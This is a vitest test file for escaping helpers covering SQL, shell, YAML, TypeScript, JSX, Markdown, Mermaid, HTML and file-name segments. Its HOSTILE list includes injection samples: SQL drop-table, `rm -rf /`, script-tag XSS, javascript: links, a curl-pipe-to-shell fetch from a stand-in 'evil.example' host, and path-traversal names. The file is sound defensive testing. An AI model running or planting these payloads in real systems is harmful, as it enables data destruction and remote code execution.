import { describe, expect, it } from "vitest";
import {
  fileSegment,
  htmlText,
  jsxText,
  markdownText,
  mermaidLabel,
  shellWord,
  sqlComment,
  sqlIdent,
  sqlText,
  tsString,
  tsStringFormatted,
  yamlString,
} from "./escape";

const HOSTILE = [
  `'; drop table users; --`,
  `$${"{process.env.SECRET}"}`,
  "`rm -rf /`",
  `</script><script>alert(1)</script>`,
  `{alert(1)}`,
  `"}); import("x"); ({"`,
  "line\nbreak\r\n: yaml",
  "\u2028\u2029\u202Eevil\u0000",
  "[x](javascript:alert(1)) ![y](http://evil.example/z)",
  "*/ code /*",
  "$(curl http://evil.example | sh)",
  "__proto__",
];

describe("SQL", () => {
  it.each(HOSTILE)("keeps %j inside one literal", (text) => {
    const literal = sqlText(text);
    expect(literal.startsWith("'") && literal.endsWith("'")).toBe(true);
    expect(literal.slice(1, -1).replaceAll("''", "")).not.toContain("'");
  });

  it.each(HOSTILE)("keeps %j on one comment line", (text) => {
    expect(sqlComment(text)).not.toMatch(/[\n\r]/);
  });

  it.each(["a b", "A", 'x"y', "1a", "a;b", "", "a".repeat(64), "__proto__"])("refuses %j as an identifier", (name) => {
    expect(() => sqlIdent(name)).toThrow(RangeError);
  });

  it("quotes keywords", () => {
    expect([sqlIdent("order"), sqlIdent("name_x")]).toEqual(['"order"', "name_x"]);
  });
});

describe("TypeScript, YAML and shell", () => {
  it.each(HOSTILE)("gives %j back unchanged when read, apart from control characters", (text) => {
    const clean = [...text].filter((char) => !["\u0000", "\u202E", "\r"].includes(char)).join("");
    expect(JSON.parse(tsString(text))).toBe(clean);
    expect(tsString(text)).not.toMatch(/<|\u2028|\u2029/);
    expect(JSON.parse(yamlString(text)).replace(/[\u2028\u2029 ]/g, "")).toBe(clean.replace(/[\u2028\u2029 ]/g, ""));
  });

  it.each(HOSTILE)("keeps %j inside one quoted literal", (text) => {
    const literal = tsStringFormatted(text);
    const quote = literal.charAt(0);
    const inner = literal.slice(1, -1).replace(/\\./g, "");
    expect(inner).not.toContain(quote);
    expect(literal).not.toMatch(/\n/);
  });

  it.each(HOSTILE)("keeps %j in one shell word", (text) => {
    expect(shellWord(text).slice(1, -1).replaceAll(`'\\''`, "")).not.toContain("'");
  });
});

describe("JSX, Markdown and diagrams", () => {
  it.each(HOSTILE)("lets no markup of %j through", (text) => {
    expect(jsxText(text)).not.toMatch(/[{}<>`]/);
    expect(markdownText(text)).not.toMatch(/[<>]|(?<!\\)[[\]`*_|]|https?:|javascript:/);
    expect(mermaidLabel(text)).toMatch(/^[\p{L}\p{N} -]+$/u);
  });
});

describe("file names", () => {
  it.each(["../x", "a/b", "..", "", "a\\b", "C:x", "a\u0000", "A b", ".env"])("refuses %j", (name) => {
    expect(() => fileSegment(name)).toThrow(RangeError);
  });
});

describe("HTML text", () => {
  it.each(HOSTILE)("%j cannot leave its place", (text) => {
    expect(htmlText(text)).not.toMatch(/[<>"'`{}%]/);
  });
});
